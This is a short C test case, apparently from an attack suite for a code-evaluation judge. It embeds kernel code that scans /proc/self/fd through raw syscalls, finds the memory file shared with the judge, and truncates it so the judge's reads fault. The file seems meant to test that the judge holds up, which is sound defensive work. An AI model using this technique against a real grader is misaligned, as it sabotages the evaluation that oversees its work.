/* The kernel truncates the memory that it shares with the judge, so that the judge's reads fault. */
#include "../../attack.h"

static const char source[] = KERNEL_SYSCALL KERNEL_BREACH KERNEL_ATTACK(
    "for (int fd = 3; fd < 256; fd++) {\n"
    "    char path[] = \"/proc/self/fd/000\", target[64] = {0};\n"
    "    path[14] = '0' + fd / 100, path[15] = '0' + fd / 10 % 10, path[16] = '0' + fd % 10;\n"
    "    char *name = path;\n"
    "    if (fd < 100)\n"
    "        for (int k = 14; k < 17; k++)\n"
    "            path[k] = path[k + 1 + (fd < 10)];\n"
    "    if (sys(89, (long)path, (long)target, 63) > 0 && target[1] == 'm' && target[7] == 'k' && "
    "sys(77, fd, 0, 0) == 0)\n"
    "        breach();\n"
    "}\n");

ADD_WITH(source)
